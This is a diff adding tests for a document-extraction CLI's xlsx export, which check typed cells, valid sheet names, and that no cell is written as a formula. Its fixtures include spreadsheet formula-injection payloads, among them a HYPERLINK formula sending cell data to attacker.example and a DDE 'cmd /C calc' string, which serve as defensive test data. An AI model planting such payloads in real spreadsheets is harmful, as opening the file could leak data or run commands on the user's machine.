@@ -2,6 +2,7 @@ import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFil
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
 import { afterEach, describe, expect, it } from 'vitest';
 import type { RunningEmulator } from '../../../src/emulator/index.js';
 import { emulatorEnv, startTestEmulator, UNTHROTTLED_FLAGS } from '../../helpers/emulator-run.js';
@@ -192,7 +193,106 @@ describe('docextract export', () => {
     const ws = resultsFolder({});
     expect((await runCli(['export', join(ws.dir, 'nope'), '--out', ws.tables], { env: isolatedEnv() })).code).toBe(2);
     expect((await runCli(['export', ws.results, '--out', '-'], { env: isolatedEnv() })).code).toBe(2);
-    expect((await runCli(['export', ws.results, '--out', ws.tables, '--format', 'xlsx'], { env: isolatedEnv() })).code).toBe(2);
+    expect((await runCli(['export', ws.results, '--out', ws.tables, '--format', 'xls'], { env: isolatedEnv() })).code).toBe(2);
+    expect((await runCli(['export', ws.results, '--out', '-', '--format', 'xlsx'], { env: isolatedEnv() })).code).toBe(2);
+    expect((await runCli(['export', ws.results, '--out', ws.tables, '--format', 'xlsx', '--bom'], { env: isolatedEnv() })).code).toBe(2);
+  });
+});
+
+describe('docextract export --format xlsx', () => {
+  /** Every cell of every sheet, read back by exceljs, with its sheet and address. */
+  function everyCell(workbook: ExcelJS.Workbook): { sheet: string; cell: ExcelJS.Cell }[] {
+    const cells: { sheet: string; cell: ExcelJS.Cell }[] = [];
+    workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push({ sheet: sheet.name, cell }))));
+    return cells;
+  }
+
+  /** The rows of a sheet as records by its header, each value as exceljs read it. */
+  function sheetRecords(sheet: ExcelJS.Worksheet | undefined): { record: Record<string, ExcelJS.CellValue>; cells: Record<string, ExcelJS.Cell> }[] {
+    const header = (sheet?.getRow(1).values as ExcelJS.CellValue[] | undefined) ?? [];
+    const rows: { record: Record<string, ExcelJS.CellValue>; cells: Record<string, ExcelJS.Cell> }[] = [];
+    sheet?.eachRow((row, number) => {
+      if (number === 1) return;
+      const record: Record<string, ExcelJS.CellValue> = {};
+      const cells: Record<string, ExcelJS.Cell> = {};
+      header.forEach((name, column) => {
+        if (typeof name !== 'string') return;
+        cells[name] = row.getCell(column);
+        record[name] = row.getCell(column).value;
+      });
+      rows.push({ record, cells });
+    });
+    return rows;
+  }
+
+  it('writes one workbook with typed cells: text stays text (leading zeros kept), numbers numbers, dates dates, and no formula anywhere', async () => {
+    const formulas = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', '@SUM(1+1)', "+cmd|' /C calc'!A0", '-1+cmd'];
+    const data = {
+      invoice_number: '00670494',
+      total: 1234.5,
+      refund: -12.5,
+      amount_text: '-12.5',
+      issue_date: '2024-03-31',
+      not_a_date: '2024-02-30',
+      paid: true,
+      tags: ['a', 'b'],
+      ...Object.fromEntries(formulas.map((value, i) => [`f${i}`, value])),
+      '=cmd': 'a formula as a column name',
+      line_items: [{ description: '=1+1', amount: 10 }, { description: 'nut', amount: 2.5 }],
+    };
+    const ws = resultsFolder({
+      'a.pdf.json': resultJson({ path: 'in/a.pdf', data }),
+      'b.pdf.json': resultJson({ path: 'in/b.pdf', data: { invoice_number: '007', total: 3 } }),
+      'c.pdf.json': resultJson({ path: 'in/c.pdf', model: 'inv[oice]:*?/\\ of ACME, the long name', data: { n: 1 } }),
+      'd.pdf.json': resultJson({ path: 'in/d.pdf', model: 'Invoice', data: { n: 2 } }),
+      'e.pdf.json': resultJson({ path: 'in/e.pdf', model: 'History', data: { n: 3 } }),
+    });
+    const run = await runCli(['export', ws.results, '--out', ws.tables, '--format', 'xlsx', '--json'], { env: isolatedEnv() });
+    expect(run.code, run.stderr).toBe(0);
+    expect(readdirSync(ws.tables)).toEqual(['tables.xlsx']);
+    const summary = JSON.parse(run.stdout) as { format: string; documents: number; tables: { file: string; sheet: string; table: string; rows: number }[] };
+    expect(summary).toMatchObject({ format: 'xlsx', documents: 5 });
+    expect(summary.tables.map((table) => table.table)).toEqual(['History', 'Invoice', expect.stringMatching(/^inv_oice_{7}of_ACME__the_long~[0-9a-f]{16}$/), 'invoice', 'invoice.line_items']);
+    // The sheets come in table order; 'Invoice' comes first, so 'invoice' is the name Excel would take for the same.
+    const sheetOf = (table: string): string | undefined => summary.tables.find((entry) => entry.table === table)?.sheet;
+    expect(sheetOf('Invoice')).toBe('Invoice');
+    expect(sheetOf('invoice')).toMatch(/^invoice~[0-9a-f]{8}$/);
+    expect(summary.tables.find((table) => table.table === 'invoice.line_items')).toEqual({ file: 'tables.xlsx', sheet: 'invoice.line_items', table: 'invoice.line_items', rows: 2 });
+    expect(summary.tables.find((table) => table.table === 'invoice')?.rows).toBe(2);
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(join(ws.tables, 'tables.xlsx'));
+    // Sheet names Excel accepts: at most 31 characters, none of []:*?/\, no two alike but for case, not History.
+    const names = workbook.worksheets.map((sheet) => sheet.name);
+    expect(names).toEqual(summary.tables.map((table) => table.sheet));
+    for (const name of names) expect(name, name).toMatch(/^[^[\]:*?/\\]{1,31}$/);
+    expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(names.length);
+    expect(names.map((name) => name.toLowerCase())).not.toContain('history');
+
+    const invoices = sheetRecords(workbook.getWorksheet(sheetOf('invoice')));
+    const a = invoices.find((row) => row.record.source_file === 'in/a.pdf');
+    expect(a?.cells.invoice_number?.type).toBe(ExcelJS.ValueType.String);
+    expect(a?.record).toMatchObject({ invoice_number: '00670494', total: 1234.5, refund: -12.5, amount_text: '-12.5', not_a_date: '2024-02-30', paid: true, tags: '["a","b"]', row: 1, '=cmd': 'a formula as a column name' });
+    expect(a?.cells.total?.type).toBe(ExcelJS.ValueType.Number);
+    expect(a?.record.issue_date).toEqual(new Date(Date.UTC(2024, 2, 31)));
+    expect(a?.cells.issue_date?.numFmt).toBe('yyyy-mm-dd');
+    formulas.forEach((value, i) => {
+      expect(a?.record[`f${i}`]).toBe(value);
+      expect(a?.cells[`f${i}`]?.type).toBe(ExcelJS.ValueType.String);
+    });
+    expect(invoices.find((row) => row.record.source_file === 'in/b.pdf')?.record.invoice_number).toBe('007');
+
+    const items = sheetRecords(workbook.getWorksheet('invoice.line_items'));
+    expect(items.map((item) => [item.record.description, item.record.amount, item.record.parent, item.record.parent_row, item.record.result_file])).toEqual([
+      ['=1+1', 10, 'invoice', 1, 'a.pdf.json'],
+      ['nut', 2.5, 'invoice', 1, 'a.pdf.json'],
+    ]);
+    const cells = everyCell(workbook);
+    expect(cells.length).toBeGreaterThan(50);
+    for (const { sheet, cell } of cells) {
+      expect(cell.type, `${sheet}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
+      expect(cell.formula, `${sheet}!${cell.address}`).toBeUndefined();
+    }
   });
 });
 
